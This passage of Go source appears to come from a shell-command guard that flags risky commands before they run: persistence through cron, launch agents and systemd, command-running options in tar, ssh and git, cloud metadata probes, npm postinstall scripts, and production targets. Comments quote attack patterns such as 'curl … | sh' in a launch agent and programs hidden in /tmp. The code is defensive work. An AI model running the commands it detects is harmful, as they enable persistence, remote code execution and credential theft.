	first := len(a.r.Network)
	for _, line := range strings.Split(c.Stdin, "\n") {
		f := strings.Fields(line)
		if len(f) >= 2 && (f[0] == "put" || f[0] == "mput" || f[0] == "reput") {
			a.data("@"+f[1], false)
		}
	}
	if host == "" {
		return
	}
	dest := "sftp://" + host
	local, meta := classifyHost(dest)
	for i := first; i < len(a.r.Network); i++ {
		a.r.Network[i].Dest, a.r.Network[i].Local, a.r.Network[i].Metadata = dest, local, meta
	}
}

// dataDump: a dump of a database's rows (not only its schema) copies data
// that may be customers' or production's: for a person or the judge.
func (a *analysis) dataDump() {
	for _, arg := range a.c.Args {
		// mysqldump -d is --no-data; pg_dump's -d names the database.
		if arg == "-s" || arg == "--schema-only" || arg == "--no-data" || arg == "-d" && a.c.Name == "mysqldump" {
			return
		}
	}
	a.r.Concerns = append(a.r.Concerns, "dumps a database's data (it may hold customers' or production data)")
}

// commandOptions are options whose value is a shell command the program
// runs (tar --checkpoint-action=exec=CMD, rsync -e CMD, zip -TT CMD, git
// clone --upload-pack=CMD, git difftool -x CMD), by program.
var commandOptions = map[string][]string{
	"tar":   {"--checkpoint-action", "--to-command", "--use-compress-program", "-I", "--info-script", "-F", "--new-volume-script"},
	"zip":   {"-TT", "--unzip-command"},
	"rsync": {"-e", "--rsh", "--rsync-path"},
	"git":   {"--upload-pack", "-u", "--receive-pack", "--exec", "-x", "--extcmd", "--tool"},
	"scp":   {"-S"},
	// -o ProxyCommand=CMD, -o LocalCommand=CMD (read by optionCommands).
	"ssh":  {"-oProxyCommand", "-oLocalCommand", "-oKnownHostsCommand"},
	"sftp": {"-oProxyCommand"},
}

// optionCommands reads the shell command a command-running option is given:
// one the rules deny makes the whole command denied.
func (a *analysis) optionCommands() {
	names := commandOptions[a.c.Name]
	if a.env.ScriptVerdict == nil || len(names) == 0 {
		return
	}
	args := a.c.Args
	if a.c.Name == "ssh" || a.c.Name == "scp" || a.c.Name == "sftp" {
		// -o ProxyCommand=CMD or -oProxyCommand=CMD: one spelling.
		args = make([]string, 0, len(a.c.Args))
		for i := 0; i < len(a.c.Args); i++ {
			if v := a.c.Args[i]; v == "-o" && i+1 < len(a.c.Args) {
				args = append(args, "-o"+a.c.Args[i+1])
				i++
				continue
			}
			args = append(args, a.c.Args[i])
		}
	}
	for i, arg := range args {
		if i < len(a.c.DynamicArgs) && a.c.DynamicArgs[i] && len(args) == len(a.c.Args) {
			continue
		}
		if k, v, ok := strings.Cut(arg, "="); ok && strings.HasPrefix(k, "-o") {
			for _, n := range names {
				if strings.EqualFold(k, n) {
					arg = n + "=" + v // ssh option names are case-insensitive
				}
			}
		}
		val := ""
		for _, n := range names {
			switch {
			case strings.HasPrefix(arg, n+"="):
				val = arg[len(n)+1:]
			case arg == n && i+1 < len(args):
				val = args[i+1]
			case len(n) == 2 && strings.HasPrefix(arg, n) && len(arg) > 2 && !strings.HasPrefix(arg, "--"):
				val = arg[2:] // -e'cmd'
			}
			if val != "" {
				break
			}
		}
		val = strings.TrimPrefix(val, "exec=") // tar --checkpoint-action=exec=CMD
		if val == "" || !strings.ContainsAny(val, " |;&") {
			continue
		}
		if a.env.ScriptVerdict(val) == hook.Deny {
			a.r.deniedRun = val
			return
		}
	}
}

// loopbackSocket notes a socket to this machine (nc localhost 9001).
func (a *analysis) loopbackSocket() {
	for i, arg := range a.c.Args {
		if !strings.HasPrefix(arg, "-") && (i >= len(a.c.DynamicArgs) || !a.c.DynamicArgs[i]) && LoopbackHost(arg) {
			a.r.loopbackOnly = true
			return
		}
	}
}

// metadataArgs finds a cloud metadata address anywhere in a network
// program's arguments, not only as a URL's host: ECS's 169.254.170.2 before
// a path known at run time, curl --resolve name:80:169.254.169.254 and
// --connect-to, nc 169.254.169.254 80.
func (a *analysis) metadataArgs() {
	for _, arg := range a.c.Args {
		// The argument whole (an IPv6 address), then its host-like parts.
		parts := append([]string{arg}, strings.FieldsFunc(arg, func(r rune) bool { return strings.ContainsRune(":/$\"'@=,{}", r) })...)
		for _, p := range parts {
			if _, meta := classifyHost(p); meta && strings.Contains(p, ".") || meta && p == arg {
				a.r.Network = append(a.r.Network, NetEffect{Dest: p, Metadata: true})
				return
			}
		}
	}
}

// editorShellLines reads the commands a line editor's script on stdin
// hands to a shell (ed's and ex's !command lines): one the rules deny
// denies the edit.
func (a *analysis) editorShellLines() {
	if a.c.Stdin == "" || a.env.ScriptVerdict == nil {
		return
	}
	for _, line := range strings.Split(a.c.Stdin, "\n") {
		cmd, ok := strings.CutPrefix(strings.TrimSpace(line), "!")
		if ok && strings.TrimSpace(cmd) != "" && a.env.ScriptVerdict(cmd) == hook.Deny {
			a.r.deniedRun = cmd
			return
		}
	}
}

// scheduledCode reads what a scheduler is given to run later: the lines of
// a crontab fed on stdin, the commands at reads, launchctl submit's command.
// One the rules deny, or a program in a hidden or temporary folder, is
// denied: persistence of that is the danger itself (cron jobs of the
// project's own scripts stay a person's decision).
func (a *analysis) scheduledCode() {
	c := a.c
	var cmds []string
	switch c.Name {
	case "crontab":
		if c.Stdin == "" || len(c.Args) > 1 || len(c.Args) == 1 && c.Args[0] != "-" {
			return
		}
		cmds = append(cmds, CronCommands(c.Stdin)...)
	case "defaults":
		// defaults write ~/Library/LaunchAgents/x.plist ProgramArguments
		// -array /bin/sh -c 'curl … | sh': the job's command, written into a
		// launch agent.
		if len(c.Args) > 4 && c.Args[0] == "write" && strings.Contains(c.Args[1], "/Launch") && c.Args[2] == "ProgramArguments" &&
			(c.Args[3] == "-array" || c.Args[3] == "-array-add") {
			cmds = append(cmds, shellJoin(c.Args[4:]))
		}
	case "PlistBuddy":
		// PlistBuddy -c 'Add :ProgramArguments:0 string /Users/x/.local/.agent'
		// ~/Library/LaunchAgents/…: the program the agent starts.
		var args []string
		launch := false
		for i, a := range c.Args {
			if strings.Contains(a, "/Launch") {
				launch = true
			}
			if a == "-c" && i+1 < len(c.Args) {
				if f := strings.Fields(c.Args[i+1]); len(f) >= 4 && strings.HasPrefix(f[1], ":ProgramArguments:") {
					args = append(args, strings.Join(f[3:], " "))
				}
			}
		}
		if launch && len(args) > 0 {
			cmds = append(cmds, strings.Join(args, " "))
		}
	case "at", "batch":
		if c.Stdin != "" {
			cmds = append(cmds, c.Stdin)
		}
	case "systemd-run":
		// The first word that is no option (or an option's value) starts
		// the command.
		for i := 0; i < len(c.Args); i++ {
			a := c.Args[i]
			if !strings.HasPrefix(a, "-") {
				cmds = append(cmds, shellJoin(c.Args[i:]))
				break
			}
			if !strings.Contains(a, "=") && systemdRunValue[a] {
				i++
			}
		}
	case "launchctl":
		if len(c.Args) > 0 && c.Args[0] == "submit" {
			if i := slices.Index(c.Args, "--"); i >= 0 && i+1 < len(c.Args) {
				cmds = append(cmds, shellJoin(c.Args[i+1:]))
			}
		}
		if len(c.Args) > 1 && (c.Args[0] == "load" || c.Args[0] == "bootstrap") {
			// launchctl load /tmp/.x/agent.plist: a job file kept out of sight.
			for _, v := range c.Args[1:] {
				if p := hiddenProgram(v); p != "" {
					a.r.scheduledDanger = "loads a job file kept in a hidden or temporary folder (" + p + ")"
					return
				}
			}
		}
	case "systemctl":
		// systemctl --user enable --now /tmp/.u/agent.service: a unit file
		// kept in a hidden or temporary folder, started at every boot.
		enable := false
		for _, v := range c.Args {
			switch {
			case v == "enable" || v == "link" || v == "start" || v == "restart":
				enable = true
			case enable && strings.Contains(v, "/"):
				if p := hiddenProgram(v); p != "" {
					a.r.scheduledDanger = "enables a unit file kept in a hidden or temporary folder (" + p + ")"
					return
				}
			}
		}
	}
	for _, cmd := range cmds {
		// Where a job logs its output (>> /var/log/app.log 2>&1) is no
		// part of what it does.
		cmd = logRedirectRe().ReplaceAllString(cmd, "")
		if a.env.ScriptVerdict != nil && a.env.ScriptVerdict(cmd) == hook.Deny {
			a.r.scheduledDanger = "schedules a command the rules deny (" + short(cmd) + ")"
			return
		}
		if p := hiddenProgram(cmd); p != "" {
			a.r.scheduledDanger = "schedules a program kept in a hidden or temporary folder (" + p + ")"
			return
		}
	}
}

// CronCommands returns the commands of crontab lines (after the five time
// fields or an @reboot-style word); comments and VAR=value lines are not
// commands.
func CronCommands(text string) []string {
	var cmds []string
	for _, line := range strings.Split(text, "\n") {
		f := strings.Fields(line)
		switch {
		case len(f) == 0 || strings.HasPrefix(f[0], "#") || strings.Contains(f[0], "=") && !strings.HasPrefix(f[0], "@"):
		case strings.HasPrefix(f[0], "@") && len(f) > 1:
			cmds = append(cmds, strings.Join(f[1:], " "))
		case len(f) > 5:
			cmds = append(cmds, strings.Join(f[5:], " "))
		}
	}
	return cmds
}

// systemdRunValue are systemd-run's options that take a value as the next word.
var systemdRunValue = map[string]bool{"--unit": true, "-u": true, "--description": true, "--slice": true, "--on-active": true,
	"--on-boot": true, "--on-startup": true, "--on-unit-active": true, "--on-unit-inactive": true, "--on-calendar": true,
	"--property": true, "-p": true, "--timer-property": true, "--path-property": true, "--socket-property": true,
	"--uid": true, "--gid": true, "--nice": true, "--working-directory": true, "--setenv": true, "-E": true,
	"--machine": true, "-M": true, "--host": true, "-H": true, "--service-type": true}

// logRedirectRe matches an output redirection to a file or a descriptor.
var logRedirectRe = sync.OnceValue(func() *regexp.Regexp { return regexp.MustCompile(`\s+[12&]?>>?\s*(&[12]|[^\s;&|]+)`) })

// shellJoin joins words into one shell command line, quoting those that
// need it (launchctl submit -- /bin/sh -c 'curl … | sh').
func shellJoin(words []string) string {
	out := make([]string, len(words))
	for i, w := range words {
		if w == "" || strings.ContainsAny(w, " \t\n'\"$`\\|&;<>()*?[]{}~#") {
			w = "'" + strings.ReplaceAll(w, "'", `'\''`) + "'"
		}
		out[i] = w
	}
	return strings.Join(out, " ")
}

// hiddenProgram returns the program or script a scheduled command runs when
// it lies in a hidden folder or file of its own (~/.cache/.u.py,
// ~/.local/share/.agent/run) or a temporary folder (/tmp/.w/agent.py), or "".
func hiddenProgram(cmd string) string {
	f := strings.Fields(cmd)
	for len(f) > 0 {
		switch path.Base(f[0]) {
		case "nohup", "nice", "python", "python3", "node", "bash", "sh", "zsh", "perl", "ruby", "env":
			f = f[1:]
			for len(f) > 0 && strings.HasPrefix(f[0], "-") {
				f = f[1:]
			}
			continue
		}
		break
	}
	if len(f) == 0 {
		return ""
	}
	p := strings.Trim(f[0], "\"'")
	if !strings.ContainsAny(p, "/") {
		return ""
	}
	for _, tmp := range []string{"/tmp/", "/var/tmp/", "/dev/shm/"} {
		if strings.HasPrefix(p, tmp) {
			return p
		}
	}
	for _, part := range strings.Split(p, "/") {
		if len(part) > 1 && part[0] == '.' && part != ".." {
			switch part {
			case ".local", ".config", ".cargo", ".npm-global", ".nvm", ".pyenv", ".rbenv", ".volta", ".bun", ".deno", ".asdf",
				".sdkman", ".rustup", ".gem", ".yarn", ".pnpm", ".venv", ".bin", ".share":
				continue
			}
			return p
		}
	}
	return ""
}

// packageFieldsOnly: npm pkg set of fields nothing runs (a script npm runs
// only when asked, the version, the description) changes no behaviour of
// installs; lifecycle scripts (postinstall, prepare, …) run by themselves.
func (a *analysis) packageFieldsOnly() {
	c := a.c
	if len(c.Args) < 3 || c.Args[0] != "pkg" || c.Args[1] != "set" || !strings.HasPrefix(a.r.Mutates, "package.json") {
		return
	}
	for i, v := range c.Args[2:] {
		if c.DynamicArgs[i+2] {
			return
		}
		if strings.HasPrefix(v, "-") {
			continue
		}
		key, val, ok := strings.Cut(v, "=")
		if !ok {
			return
		}
		if strings.HasPrefix(key, "scripts.") && a.env.ScriptVerdict != nil && a.env.ScriptVerdict(val) == hook.Deny {
			// npm pkg set scripts.postinstall="curl … | sh": a script the
			// rules deny, set to run later.
			a.r.deniedRun = val
			return
		}
		switch {
		case strings.HasPrefix(key, "scripts."):
			if lifecycleScripts[strings.TrimPrefix(key, "scripts.")] {
				return
			}
		case key == "version" || key == "description" || key == "name" || key == "type" || key == "license" || key == "private" ||
			key == "homepage" || key == "author" || strings.HasPrefix(key, "engines.") || strings.HasPrefix(key, "keywords"):
		default:
			return
		}
	}
	a.r.Mutates = ""
}

// lifecycleScripts are the package.json scripts npm, yarn or pnpm run on
// their own: install, publish, pack and version steps and their pre/post hooks.
var lifecycleScripts = map[string]bool{"preinstall": true, "install": true, "postinstall": true, "preuninstall": true,
	"uninstall": true, "postuninstall": true, "prepare": true, "preprepare": true, "postprepare": true, "prepublish": true,
	"prepublishOnly": true, "publish": true, "postpublish": true, "prepack": true, "pack": true, "postpack": true,
	"preversion": true, "version": true, "postversion": true, "preshrinkwrap": true, "shrinkwrap": true, "postshrinkwrap": true,
	"dependencies": true, "prerestart": true, "restart": true, "postrestart": true}

// installedCopy reports a program path that is the project's own install
// of a known program: .venv/bin/pip, venv/bin/python, node_modules/.bin/eslint
// (what the environment's activation or npx would run by its name).
func (a *analysis) installedCopy(prog string) bool {
	p := strings.TrimPrefix(prog, "./")
	dir := path.Dir(p)
	switch dir {
	case ".venv/bin", "venv/bin", "env/bin", ".env/bin", "node_modules/.bin":
	default:
		return false
	}
	return a.env.Classify != nil && slices.Contains(a.env.Classify(prog, a.c.Cwd), "inside")
}

// outputDirs are the folders a project's build writes its programs to.
var outputDirs = map[string]bool{"target": true, "build": true, "out": true, "dist": true, "bin": true, "_build": true,
	".build": true, "zig-out": true, "debug": true, "release": true}

// projectBinary reports a program path inside the workspace, in a folder a
// build writes programs to (target/debug, build, cmake-build-*, bin), that
// is not a script (scripts are read and judged by what they run) and not in
// a folder of downloaded or installed code (node_modules, .venv, tmp).
func (a *analysis) projectBinary(prog string) bool {
	if a.env.Classify == nil || strings.Contains(prog, "..") || strings.HasPrefix(prog, "~") {
		return false
	}
	if !slices.Contains(a.env.Classify(prog, a.c.Cwd), "inside") {
		return false
	}
	parts := strings.Split(strings.TrimPrefix(prog, "./"), "/")
	base := parts[len(parts)-1]
	if ext := path.Ext(base); ext != "" && ext != ".exe" && ext != ".out" && ext != ".bin" && ext != ".test" {
		return false
	}
	output := false
	for _, d := range parts[:len(parts)-1] {
		switch {
		case d == "node_modules" || d == ".venv" || d == "venv" || d == "tmp" || d == "temp" || d == ".tmp" || strings.HasPrefix(d, "."):
			if d != ".build" {
				return false
			}
			output = true
		case outputDirs[d] || strings.HasPrefix(d, "cmake-build-"):
			output = true
		}
	}
	return output
}

// debugsProjectBinary accepts a debugger that runs the program it debugs
// (gdb -batch -ex run -ex bt --args ./build/server) when that program (the
// first file it reads: its operand, --args or --file) is one the project's
// build made.
func (a *analysis) debugsProjectBinary() {
	prog := ""
	for _, f := range a.r.Files {
		if f.Op == OpRead {
			prog = f.Path
			break
		}
	}
	if prog == "" || !a.projectBinary(prog) {
		return
	}
	for i := range a.r.Code {
		if cd := &a.r.Code[i]; (cd.Lang == "gdb" || cd.Lang == "lldb") && len(cd.Found) == 1 && cd.Found[0] == foundDebuggee {
			cd.Found = nil
		}
	}
}

// secretsShown records a secret scanner run without --redact: it prints
// the values it finds into the conversation.
func (a *analysis) secretsShown() {
	if !slices.Contains(a.c.Args, "--redact") && !slices.Contains(a.c.Args, "version") && !slices.Contains(a.c.Args, "help") {
		a.r.Concerns = append(a.r.Concerns, "prints the secrets it finds (no --redact)")
	}
}

// bucketDownload reads aws s3 cp|sync and gsutil cp|rsync whose sources
// are all buckets and whose target is a local path: a download, which
// changes nothing in the cloud; the local target is written.
func (a *analysis) bucketDownload() {
	c := a.c
	args := c.Args
	verb := ""
	if c.Name == "aws" {
		if len(args) < 2 || args[0] != "s3" || args[1] != "cp" && args[1] != "sync" {
			return
		}
		verb, args = args[1], args[2:]
	} else {
		for len(args) > 0 && strings.HasPrefix(args[0], "-") {
			args = args[1:] // gsutil -m, -q
		}
		if len(args) < 1 || args[0] != "cp" && args[0] != "rsync" {
			return
		}
		verb, args = args[0], args[1:]
	}
	// Every word that is not an option is an operand: an option that takes
	// a value (--profile NAME, --acl public-read) makes the command too
	// many operands to read as SOURCE… TARGET, and it stays judged.
	var ops []string
	for i, v := range args {
		if i+len(c.Args)-len(args) < len(c.DynamicArgs) && c.DynamicArgs[i+len(c.Args)-len(args)] {
			return
		}
		switch v {
		case "--delete", "-d":
			return // a sync that deletes local files: judged as before
		case "--recursive", "-r", "-R", "--quiet", "-q", "--only-show-errors", "--no-progress", "--exact-timestamps", "--size-only",
			"--follow-symlinks", "--no-follow-symlinks", "-n", "-c", "-C", "-e", "-P", "-U", "-v":
			continue
		}
		if strings.HasPrefix(v, "--") && strings.Contains(v, "=") {
			continue
		}
		ops = append(ops, v)
	}
	if len(ops) != 2 {
		return
	}
	if bucketURL(ops[1]) || strings.HasPrefix(ops[1], "-") {
		return
	}
	for _, src := range ops[:len(ops)-1] {
		if !bucketURL(src) {
			return
		}
	}
	a.r.Mutates = ""
	a.file(OpWrite, ops[len(ops)-1], slices.Contains(args, "--recursive") || slices.Contains(args, "-r") || slices.Contains(args, "-R") ||
		verb == "sync" || verb == "rsync")
}

func bucketURL(v string) bool { return strings.HasPrefix(v, "s3://") || strings.HasPrefix(v, "gs://") }

// scpDownload reads scp HOST:PATH… LOCAL, where every source is remote and
// the target is here: a download, which changes nothing on the remote side.
func (a *analysis) scpDownload() {
	c := a.c
	var ops []string
	for i := 0; i < len(c.Args); i++ {
		v := c.Args[i]
		if i < len(c.DynamicArgs) && c.DynamicArgs[i] {
			return
		}
		if strings.HasPrefix(v, "-") && len(v) > 1 {
			if len(v) == 2 && strings.Contains("PoJlcSXDRBiFb", v[1:]) {
				i++ // the option's value
			}
			continue
		}
		ops = append(ops, v)
	}
	if len(ops) < 2 || remoteSpec(ops[len(ops)-1]) {
		return
	}
	for _, src := range ops[:len(ops)-1] {
		if !remoteSpec(src) {
			return
		}
	}
	a.r.Mutates = ""
	for _, src := range ops[:len(ops)-1] {
		host, _, _ := strings.Cut(strings.TrimPrefix(src, "scp://"), ":")
		if _, h, ok := strings.Cut(host, "@"); ok {
			host = h
		}
		local, metadata := classifyHost(host)
		a.r.Network = append(a.r.Network, NetEffect{Dest: host, Local: local, Metadata: metadata})
	}
}

// remoteSpec reports an scp operand on another machine: [user@]host:path or
// scp://host/path.
func remoteSpec(v string) bool {
	if strings.HasPrefix(v, "scp://") {
		return true
	}
	before, _, ok := strings.Cut(v, ":")
	return ok && before != "" && !strings.Contains(before, "/")
}

// everyContainer records docker/podman rm, rmi, kill and stop of names only
// known at run time (docker ps -aq | xargs docker rm -f): every container on
// the machine, other projects' too.
func (a *analysis) everyContainer() {
	c := a.c
	if len(c.Args) == 0 {
		return
	}
	args := c.Args
	if args[0] == "container" || args[0] == "image" {
		args = args[1:]
	}
	if len(args) == 0 {
		return
	}
	switch args[0] {
	case "rm", "rmi", "kill", "stop", "remove":
	default:
		return
	}
	dynamic := a.env.FromPipe && slices.Contains(c.Wrappers, "xargs")
	for i, arg := range c.Args {
		dynamic = dynamic || i < len(c.DynamicArgs) && c.DynamicArgs[i] && !strings.HasPrefix(arg, "-")
	}
	if dynamic {
		a.r.Concerns = append(a.r.Concerns, "removes or stops containers or images named only at run time (possibly every one on the machine)")
	}
}

// moveOntoDevice records mv FILE /dev/null: the file is gone, and as root
// the device node itself is replaced by it.
func (a *analysis) moveOntoDevice() {
	for _, f := range a.r.Files {
		if f.Op == OpWrite && strings.HasPrefix(f.Path, "/dev/") {
			a.r.movesOntoDevice = f.Path
		}
	}
}

// movesInsideWorkspace marks the sources of mv (and rsync
// --remove-source-files) as moved when every target
// is an ordinary place inside the workspace: the files are not gone, they
// are elsewhere in the project (mv data/raw/2024-*.csv data/archive/).
func (a *analysis) movesInsideWorkspace() {
	if a.c.Name == "git" && (len(a.c.Args) == 0 || a.c.Args[0] != "mv") {
		return
	}
	targets := 0
	for _, f := range a.r.Files {
		if f.Op != OpWrite {
			continue
		}
		targets++
		if f.Dynamic || !has(f.Classes, "inside") || has(f.Classes, ClassGuard, ClassVCS, ClassVCSOther, ClassPersistence, ClassHooks,
			ClassCI, ClassAgent, ClassSecret) {
			return
		}
	}
	if targets == 0 {
		return
	}
	a.markMoved()
}

// markMoved marks the deleted sources of a move as moved: ordinary files
// inside the workspace (not its root), and the user's own folders in the
// home directory (mv ~/Downloads/export/ data/raw/): not destroyed, they
// are elsewhere (a person still decides about the home's).
func (a *analysis) markMoved() {
	for i := range a.r.Files {
		f := &a.r.Files[i]
		switch {
		case f.Op != OpDelete || f.Dynamic:
		case has(f.Classes, "inside") && !has(f.Classes, ClassRoot):
			f.moved = true
		case has(f.Classes, "home_sub") && !has(f.Classes, ClassSecret, ClassPersistence, ClassGuard, ClassAgent, ClassVCS, ClassVCSOther, ClassHooks):
			f.moved = true
		}
	}
}

// rsyncMoves reads rsync --remove-source-files as a move: the sources are
// removed once copied, so they are elsewhere unless the copy goes to a
// temporary folder (wiped on reboot) or a path known only at run time.
func (a *analysis) rsyncMoves() {
	if !slices.Contains(a.c.Args, "--remove-source-files") {
		return
	}
	for _, f := range a.r.Files {
		if f.Op == OpWrite && (f.Dynamic || has(f.Classes, "temp", "dynamic")) {
			return
		}
	}
	if dest := lastOperand(a.c.Args); remoteSpec(dest) || strings.HasPrefix(dest, "rsync://") {
		// rsync -a --remove-source-files ~/Documents/ host:/srv/in/: the
		// user's files leave this machine and are gone from it; only the
		// project's own files count as moved (the transfer is judged).
		for i := range a.r.Files {
			if f := &a.r.Files[i]; f.Op == OpDelete && !f.Dynamic && has(f.Classes, "inside") && !has(f.Classes, ClassRoot) {
				f.moved = true
			}
		}
		return
	}
	a.markMoved()
}

// lastOperand returns the last argument that is not an option, or "".
func lastOperand(args []string) string {
	for i := len(args) - 1; i >= 0; i-- {
		if !strings.HasPrefix(args[i], "-") {
			return args[i]
		}
	}
	return ""
}

// truncatesInput records sort data.csv > data.csv: the shell empties the
// file before the command reads it, so the data is gone.
func (a *analysis) truncatesInput() {
	for _, rd := range a.c.Redirects {
		if rd.Op != ">" && rd.Op != ">|" && rd.Op != "&>" || rd.Target == "" || strings.ContainsAny(rd.Target, "$`") {
			continue
		}
		target, _ := a.absolute(rd.Target)
		for _, f := range a.r.Files {
			if f.Op != OpRead || f.Meta || f.Dynamic {
				continue
			}
			if p, _ := a.absolute(f.Path); p == target && !strings.HasPrefix(target, "/dev/") {
				a.r.Concerns = append(a.r.Concerns, "empties "+rd.Target+" before the command reads it (the redirection truncates it first)")
				return
			}
		}
	}
}

// productionRe is a variable whose name says it points at production.
var productionRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`\$\{?(?:[A-Za-z0-9]+_)*(?:PROD|PRODUCTION|STAGING|STG)(?:_[A-Za-z0-9_]*)?\}?\b`)
})

// productionDefaultRe matches a variable whose default is a shared
// environment: ${RAILS_ENV:-production}, ${STAGE:=prod}.
var productionDefaultRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(?i)\$\{[A-Za-z_][A-Za-z0-9_]*:?[-=](?:production|prod|staging|stage|live)\}`)
})

// productionValues records a run-time value named for production passed to
// what runs (cargo run -- --database-url "$PROD_DATABASE_URL" up).
func (a *analysis) productionValues() {
	// A default of production matters where the command changes or runs
	// something (a migration, a deploy), not for a read (kubectl get -n
	// ${NS:-staging}).
	acts := a.r.Mutates != "" || len(a.r.Code) > 0
	check := func(v string) bool {
		return (strings.Contains(v, "PROD") || strings.Contains(v, "STAG") || strings.Contains(v, "STG")) && productionRe().MatchString(v) ||
			acts && strings.Contains(v, "${") && productionDefaultRe().MatchString(v)
	}
	for i, arg := range a.c.Args {
		if i < len(a.c.DynamicArgs) && a.c.DynamicArgs[i] && check(arg) {
			a.r.Concerns = append(a.r.Concerns, "uses a value named for a shared environment, production or staging ("+short(arg)+")")
			return
		}
		if acts && (strings.Contains(arg, "jdbc:") || strings.Contains(arg, "://")) {
			// -Pflyway.url=jdbc:postgresql://db.shared.corp.example/orders:
			// the project's code aimed at a database on another machine.
			if m := databaseURLRe().FindStringSubmatch(arg); m != nil {
				if local, _ := classifyHost(m[1]); !local || !loopbackName(m[1]) {
					a.r.Concerns = append(a.r.Concerns, "runs against the database on "+m[1]+", another machine")
					return
				}
			}
		}
		if acts && environmentSelectorRe().MatchString(arg) {
			// rake db:migrate RAILS_ENV=staging, mvn exec:java
			// -Dexec.args="--env prod": the project's code aimed at a
			// shared environment.
			a.r.Concerns = append(a.r.Concerns, "runs against a shared environment, production or staging ("+short(arg)+")")
			return
		}
	}
	if (acts || slices.Contains(a.c.Args, "exec")) && (a.c.Name == "kubectl" || a.c.Name == "oc" || a.c.Name == "helm") {
		for i, arg := range a.c.Args {
			if (arg == "-n" || arg == "--namespace" || arg == "--context" || arg == "--kube-context") && i+1 < len(a.c.Args) &&
				productionNameRe().MatchString(a.c.Args[i+1]) {
				a.r.Concerns = append(a.r.Concerns, "runs in a shared environment, production or staging ("+arg+" "+a.c.Args[i+1]+")")
				return
			}
		}
	}
	builds := slices.ContainsFunc(a.c.Args, func(arg string) bool { return buildTaskRe().MatchString(arg) })
	for k, v := range a.c.Assigns {
		if check(v) || acts && !builds && environmentSelectorRe().MatchString(k+"="+v) ||
			acts && strings.Contains(v, "$(") && productionNameRe().MatchString(v) {
			// DATABASE_URL=$(heroku config:get DATABASE_URL -a storefront-prod):
			// a value fetched from a production app.
			a.r.Concerns = append(a.r.Concerns, "sets "+k+" to a value named for a shared environment, production or staging ("+short(v)+")")
			return
		}
	}
}

// databaseURLRe matches a database URL and its host (JDBC or a driver's
// scheme), with or without credentials.
var databaseURLRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(?i)\b(?:jdbc:)?(?:postgres(?:ql)?|mysql|mariadb|sqlserver|mongodb(?:\+srv)?|redis|oracle:thin:@)://(?:[^@/\s]*@)?([A-Za-z0-9.-]+)`)
})

// loopbackName reports this machine by name or address.
func loopbackName(host string) bool {
	switch strings.ToLower(host) {
	case "localhost", "127.0.0.1", "::1", "0.0.0.0", "host.docker.internal", "db", "postgres", "mysql", "redis", "mongo":
		return true
	}
	return false
}

// productionNameRe matches a namespace or context named for a shared
// environment (production, prod-eu, payments-prod, staging).
var productionNameRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(?i)(^|[-_./:\s])(prod|production|prd|live|staging|stage|stg)($|[-_./:)\s])`)
})

// buildTaskRe matches a task that builds or checks the project rather than
// reaching an environment (RAILS_ENV=production rails assets:precompile).
var buildTaskRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(?i)(^|:)(assets|precompile|build|compile|bundle|lint|test|spec|check|package)\b`)
})

// environmentSelectorRe matches a literal setting that picks a shared
// environment for the code that runs (not NODE_ENV=production, which
// builds).
var environmentSelectorRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(?i)(^|[\s"'=])((RAILS_ENV|RACK_ENV|APP_ENV|MIX_ENV|FLASK_ENV|ENVIRONMENT|DEPLOY_ENV|STAGE|SPRING_PROFILES_ACTIVE|DJANGO_SETTINGS_MODULE)=\S*?|-Dspring\.profiles\.active=|--env(ironment)?[= ]|--stage[= ]|--profiles?[= ])(prod|production|staging|stage|live)\b`)
})

// makeProgramVar reports a make variable that names a program the build
// runs (CC, CXX, LD, SHELL, …).
func makeProgramVar(k string) bool {
	switch k {
	case "CC", "CXX", "CPP", "LD", "AR", "AS", "FC", "NM", "RANLIB", "STRIP", "OBJCOPY", "SHELL", "MAKESHELL", "INSTALL",
		"PKG_CONFIG", "HOSTCC", "CROSS_COMPILE", "GO", "CARGO", "PYTHON", "NODE", "NPM":
		return true
	}
	return namesAProgram(k)
}

// harmlessCompiler reports a plain compiler or tool name (gcc, clang-17,
// ccache gcc, /usr/bin/cc).
func harmlessCompiler(v string) bool {
	f := strings.Fields(v)
	if len(f) == 0 || len(f) > 2 || strings.ContainsAny(v, "`$;|&<>()'\"") {
		return false
	}
	ok := func(w string) bool {
		switch b := path.Base(w); {
		case b == "ccache" || b == "sccache":
			return true
		default:
			for _, name := range []string{"gcc", "g++", "cc", "c++", "clang", "clang++", "ld", "ld.lld", "ld.gold", "ar", "llvm-ar",
				"as", "gfortran", "nm", "ranlib", "strip", "objcopy", "bash", "sh", "pkg-config", "install", "go", "cargo", "python",
				"python3", "node", "npm", "zig", "tcc", "icx", "icc"} {
				if b == name || strings.HasPrefix(b, name+"-") || strings.HasSuffix(b, "-"+name) {
					return true
				}
			}
		}
		return false
	}
	for _, w := range f {
		if !ok(w) {
			return false
		}
	}
	return true
}

// deployTargetRe is a task name that deploys, applies or destroys.
var deployTargetRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(?i)^(deploy|apply|release|publish|destroy|teardown|rollout|promote|ship)([-_:.].*)?$`)
})

// deployTargets records a project task that deploys or applies changes
// (make -C envs/prod apply, npm run deploy:prod): the project's own code,
// but aimed at live systems.
func (a *analysis) deployTargets() {
	c := a.c
	var targets []string
	prodDir := false
	switch c.Name {
	case "make", "gmake", "just", "task", "mage":
		for i := 0; i < len(c.Args); i++ {
			v := c.Args[i]
			switch {
			case v == "-n" || v == "--dry-run" || v == "--just-print" || v == "--recon":
				return // prints what it would run
			case v == "-C" || v == "--directory" || v == "-f" || v == "--file" || v == "-j" || v == "--jobs" || v == "-d" || v == "--dir":
				if i+1 < len(c.Args) {
					base := strings.ToLower(path.Base(c.Args[i+1]))
					prodDir = prodDir || base == "prod" || base == "production"
				}
				i++
			case strings.Contains(v, "=") && !strings.HasPrefix(v, "-"):
				// make CC='sh -c …': a variable that names a program make runs.
				if k, val, _ := strings.Cut(v, "="); makeProgramVar(k) && !harmlessCompiler(val) {
					a.r.Concerns = append(a.r.Concerns, "sets "+k+", a program the build runs, to "+short(val))
